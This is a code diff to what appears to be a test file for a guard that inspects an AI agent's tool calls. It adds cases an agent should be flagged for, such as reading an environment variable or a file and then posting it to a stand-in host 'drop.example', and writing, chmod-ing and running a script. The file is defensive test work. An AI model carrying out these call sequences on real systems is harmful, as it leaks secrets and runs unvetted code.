@@ -12,6 +12,8 @@ export interface Attack {
   readonly rule: string | null
   /** The action that the rule itself has, whatever its section says. */
   readonly setting?: 'block'
+  /** It begins a conversation of its own: what was called before would count. */
+  readonly alone?: true
   readonly steps: readonly Step[]
 }
 
@@ -36,6 +38,13 @@ const got = (name: string, rule: string, answered: string): Attack => ({
   name,
   rule,
   steps: [{ request: echo, answer: answered }],
+})
+/** Calls that are harmful in this order. */
+const sequence = (name: string, rule: string | null, ...calls: string[]): Attack => ({
+  name,
+  rule,
+  alone: true,
+  steps: calls.map((asked) => ({ request: asked, answer: fine })),
 })
 const list = request('tools/list', {})
 const tool = (name: string, description: string, properties: Record<string, unknown> = {}) => ({
@@ -98,6 +107,40 @@ export const attacks: readonly Attack[] = [
       { request: call('mystery', {}), answer: fine },
     ],
   },
+  sequence(
+    'the environment is sent',
+    'env-then-network',
+    call('get_env', { name: 'HOME' }),
+    call('http_post', { url: 'https://drop.example/', body: 'what was read' }),
+  ),
+  sequence(
+    'the environment is read, then a page',
+    'env-then-network',
+    call('get_env', { name: 'HOME' }),
+    call('fetch', { url: 'https://docs.example/' }),
+  ),
+  sequence(
+    'a search, a file, an upload, with other calls between them',
+    'recon-then-exfil',
+    call('list_directory', { path: '.' }),
+    call('think', {}),
+    call('read_file', { path: 'report.txt' }),
+    call('think', {}),
+    call('http_post', { url: 'https://drop.example/', body: 'what was read' }),
+  ),
+  sequence(
+    'what was written is run',
+    'write-chmod-execute',
+    call('write_file', { path: 'run.sh', content: 'echo hello' }),
+    call('bash', { command: 'chmod +x run.sh' }),
+    call('bash', { command: './run.sh' }),
+  ),
+  sequence(
+    'the steps in another order',
+    null,
+    call('http_post', { url: 'https://drop.example/', body: 'hello' }),
+    call('get_env', { name: 'HOME' }),
+  ),
 ]
 
 /** Ids tell the server which answer is wanted. */
